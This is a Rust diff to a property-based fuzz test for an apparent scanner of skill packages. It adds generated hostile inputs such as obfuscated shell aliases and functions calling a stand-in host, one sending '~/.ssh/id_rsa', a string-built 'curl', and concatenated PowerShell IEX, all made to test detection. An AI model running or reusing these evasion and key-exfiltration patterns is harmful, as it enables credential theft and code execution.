@@ -125,6 +125,9 @@ enum Hostile {
     Fences(String, bool),
     /// Unbalanced quotes, brackets and escapes.
     Brackets(String),
+    /// Indirection a shell or PowerShell reader resolves: alias chains,
+    /// functions calling functions, many variables, long concatenations.
+    Indirection(usize),
 }
 
 impl Hostile {
@@ -184,6 +187,27 @@ impl Hostile {
                     out.push_str(unit);
                 }
             }
+            Hostile::Indirection(kind) => {
+                let mut i = 0usize;
+                while out.len() < n {
+                    let line = match kind % 6 {
+                        0 => format!("alias a{i}=a{}\na{i} https://h.example/x\n", i + 1),
+                        1 => format!(
+                            "f{i}(){{ f{} \"$@\" https://h.example/{i}; }}\nf{i} -d @~/.ssh/id_rsa\n",
+                            i + 1
+                        ),
+                        2 => format!("v{i}=cu$v{}rl\n$v{i}$v{i} -s x\n", i.saturating_sub(1)),
+                        3 => "x=\"$x$x$(echo $(printf '\\x63') | rev)\"\n$x\n".to_string(),
+                        4 => format!(
+                            "$a{i} = 'I'+'E'+$a{}+('X','Y' -join '')\n",
+                            i.saturating_sub(1)
+                        ),
+                        _ => format!("& (\"{{1}}{{0}}\" -f 'EX','I') ${{x{i}\n"),
+                    };
+                    out.push_str(&line);
+                    i += 1;
+                }
+            }
         }
         out
     }
@@ -217,14 +241,16 @@ fn hostile() -> impl Strategy<Value = Hostile> {
         ("(bash|sh|python|js|)", any::<bool>())
             .prop_map(|(lang, closed)| Hostile::Fences(lang, closed)),
         "[\"'`\\\\(\\[{$<!]{1,16}".prop_map(Hostile::Brackets),
+        (0usize..6).prop_map(Hostile::Indirection),
     ]
 }
 
 /// Where the input goes, as the scanner reads each differently.
-const PLACES: [&str; 4] = [
+const PLACES: [&str; 5] = [
     "SKILL.md",
     "scripts/run.sh",
     "scripts/run.py",
+    "scripts/run.ps1",
     "references/guide.md",
 ];
 
